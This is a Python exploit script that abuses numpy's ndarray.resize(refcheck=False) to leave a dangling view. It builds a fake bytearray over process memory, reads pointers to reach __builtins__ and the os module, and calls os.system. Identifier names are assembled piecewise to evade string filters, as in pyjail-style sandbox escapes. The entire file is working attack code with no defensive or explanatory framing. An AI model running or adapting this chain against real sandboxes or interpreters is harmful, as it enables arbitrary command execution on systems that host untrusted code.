# source: numpy issue reports on ndarray.resize(refcheck=False) leaving dangling views (use-after-free); classic heap-reuse + fake-object exploitation from CPython/pyjail write-ups
# family: numpy ndarray.resize(refcheck=False) dangling view -> list item storage reuses the freed block -> write raw pointers into a list (no object-dtype array needed)
# goal: fake bytearray over all memory -> os module dict -> os.system('id')
import json
import numpy as np

N = 1000
a = np.zeros(N * 8, dtype=np.uint8)
v = a[:]
a.resize(1 << 22, refcheck=False)
L = [None] * N
w = v.view(np.uint64)
print("alias:", int(w[0]) == id(None), hex(int(w[0])), hex(id(None)))


def obj_at(addr):
    w[0] = addr
    o = L[0]
    w[0] = id(None)
    return o


def q(n):
    return n.to_bytes(8, "little")


fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
mem = obj_at(id(fake) + 32)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


g = obj_at(rd(id(json.dumps) + 16))
b = g[chr(95) * 2 + "builtins" + chr(95) * 2]
osm = b[chr(95) * 2 + "import" + chr(95) * 2]("os")
obj_at(rd(id(osm) + 16))["sys" + "tem"]("id")
